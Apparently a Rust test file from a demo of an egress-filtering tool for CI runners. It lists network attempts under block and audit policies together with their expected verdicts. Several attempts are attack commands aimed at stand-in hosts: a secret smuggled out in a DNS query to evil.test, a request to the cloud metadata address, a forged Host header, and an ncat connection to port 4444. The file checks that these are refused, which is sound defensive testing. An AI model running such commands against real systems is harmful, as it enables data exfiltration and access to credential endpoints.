//! What the demo's jobs try, with real tools, and what their policies say of it.

use std::time::Duration;

use tidegate_lab::{Lab, LabError, Output};

/// Sources without a lease.
pub(super) const DEFAULT_POLICY: &str = "egress-policy: block\nplatform: none\n";

/// The policy of job `build`.
pub(super) const BLOCK_POLICY: &str = "\
egress-policy: block
platform: none
allowed-endpoints: >
  allowed.test:443
  allowed.test:80
  cdn-a.test:443
  git.test:443
denied-endpoints: private.allowed.test
";

/// The policy of job `nightly`.
pub(super) const AUDIT_POLICY: &str = "\
egress-policy: audit
platform: none
allowed-endpoints: allowed.test:443
";

/// How an attempt is to come out.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Expect {
    Permitted,
    Refused,
    WouldRefuse,
}

impl Expect {
    pub(super) const fn verdict(self) -> &'static str {
        match self {
            Self::Permitted => "permit",
            Self::Refused => "refuse",
            Self::WouldRefuse => "would-refuse",
        }
    }
}

/// One command of a job.
pub(super) struct Attempt {
    pub(super) title: &'static str,
    pub(super) job: &'static str,
    pub(super) runner: usize,
    command: Vec<String>,
    /// What of the output shows that it went through.
    proof: &'static str,
    pub(super) expect: Expect,
    /// Kind, and one field with its value, of the event that decides it.
    pub(super) kind: &'static str,
    pub(super) key: &'static str,
    pub(super) value: &'static str,
}

/// How a command ended.
pub(super) struct Outcome {
    pub(super) through: bool,
    /// The line of its output that says most.
    pub(super) line: String,
}

impl Attempt {
    /// Runs the command in its runner's namespace.
    pub(super) async fn run(&self, lab: &Lab) -> Result<Outcome, LabError> {
        let (program, args) = self.command.split_first().expect("an attempt has a command");
        let output = lab
            .runner(self.runner)
            .command(program)
            .args(args)
            .timeout(Duration::from_secs(20))
            .run()
            .await?;
        let text = format!("{}\n{}", output.text(), output.errors());
        Ok(Outcome {
            through: text.contains(self.proof),
            line: telling_line(&output, self.proof),
        })
    }
}

/// The line with the proof, else the one that names a refusal, else the last.
fn telling_line(output: &Output, proof: &str) -> String {
    let text = format!("{}\n{}", output.text(), output.errors());
    let lines: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty())
        .collect();
    let signs = [
        proof,
        "EDE",
        "Tidegate refused",
        "refused",
        "alert",
        "Could not resolve",
        "NXDOMAIN",
        "not ",
    ];
    let found = signs
        .iter()
        .find_map(|sign| lines.iter().find(|line| line.contains(sign)));
    let line = found.or(lines.last()).copied().unwrap_or("(no output)");
    line.chars().take(90).collect()
}

/// A job's attempts in the order in which they run.
pub(super) fn all(lab: &Lab) -> Vec<Attempt> {
    let mut list = build_job(lab);
    list.extend(nightly_job());
    list
}

fn attempt(title: &'static str, command: &[&str], proof: &'static str) -> Attempt {
    Attempt {
        title,
        job: "build",
        runner: 0,
        command: command.iter().map(|word| (*word).to_owned()).collect(),
        proof,
        expect: Expect::Permitted,
        kind: "tls",
        key: "name",
        value: "allowed.test",
    }
}

fn build_job(lab: &Lab) -> Vec<Attempt> {
    let curl = |title, url, proof| attempt(title, &["curl", "-sS", "-m", "8", url], proof);
    let (refused, site) = (Expect::Refused, "allowed.test");
    vec![
        curl("HTTPS to an allowed name", "https://allowed.test/", site),
        Attempt {
            kind: "http",
            ..curl("HTTP to an allowed name", "http://allowed.test/", site)
        },
        Attempt {
            value: "git.test",
            ..attempt(
                "git clone over HTTPS",
                &["git", "clone", &lab.git_https_url(), "clone"],
                "Cloning into",
            )
        },
        Attempt {
            expect: refused,
            kind: "dns",
            value: "evil.test",
            ..curl(
                "HTTPS to a name that is not allowed",
                "https://evil.test/",
                "evil.test says",
            )
        },
        Attempt {
            expect: refused,
            kind: "dns",
            value: "c2vjcmv0.evil.test",
            ..attempt(
                "a secret in a DNS query",
                &["dig", "+tries=1", "c2VjcmV0.evil.test"],
                "ANSWER SECTION",
            )
        },
        Attempt {
            expect: refused,
            kind: "dns",
            value: "evil.test",
            ..attempt(
                "the same by a foreign resolver",
                &["dig", "+tries=1", "@203.0.113.53", "evil.test"],
                "ANSWER SECTION",
            )
        },
        attempt(
            "an allowed name towards an attacker's address",
            &[
                "curl",
                "-sS",
                "-m",
                "8",
                "--resolve",
                "allowed.test:443:203.0.113.66",
                "https://allowed.test/",
            ],
            site,
        ),
        Attempt {
            expect: refused,
            value: "cdn-b.test",
            ..attempt(
                "another site at an allowed site's address",
                &[
                    "curl",
                    "-sS",
                    "-m",
                    "8",
                    "--resolve",
                    "cdn-b.test:443:192.0.2.20",
                    "https://cdn-b.test/",
                ],
                "cdn-b.test says",
            )
        },
        Attempt {
            expect: refused,
            kind: "http",
            value: "evil.test",
            ..attempt(
                "a forged Host at an allowed address",
                &[
                    "curl",
                    "-sS",
                    "-m",
                    "8",
                    "-H",
                    "Host: evil.test",
                    "http://allowed.test/",
                ],
                "evil.test says",
            )
        },
        Attempt {
            expect: refused,
            kind: "tcp",
            key: "address",
            value: "169.254.169.254",
            ..curl(
                "the cloud's metadata address",
                "http://169.254.169.254/latest/",
                "meta-data",
            )
        },
        Attempt {
            expect: refused,
            kind: "tcp",
            key: "address",
            value: "192.0.2.66",
            ..attempt(
                "a bare address on another port",
                &["ncat", "-w", "3", "192.0.2.66", "4444"],
                "connected",
            )
        },
    ]
}

fn nightly_job() -> Vec<Attempt> {
    let nightly = |title, command: &[&str], proof| Attempt {
        job: "nightly",
        runner: 1,
        expect: Expect::WouldRefuse,
        value: "evil.test",
        ..attempt(title, command, proof)
    };
    vec![
        nightly(
            "audit: a name that is not allowed works",
            &["curl", "-sS", "-m", "8", "https://evil.test/"],
            "evil.test",
        ),
        Attempt {
            expect: Expect::Refused,
            kind: "dns",
            value: "malware.test",
            ..nightly(
                "audit: the global block list still holds",
                &["curl", "-sS", "-m", "8", "https://malware.test/"],
                "malware.test says",
            )
        },
    ]
}
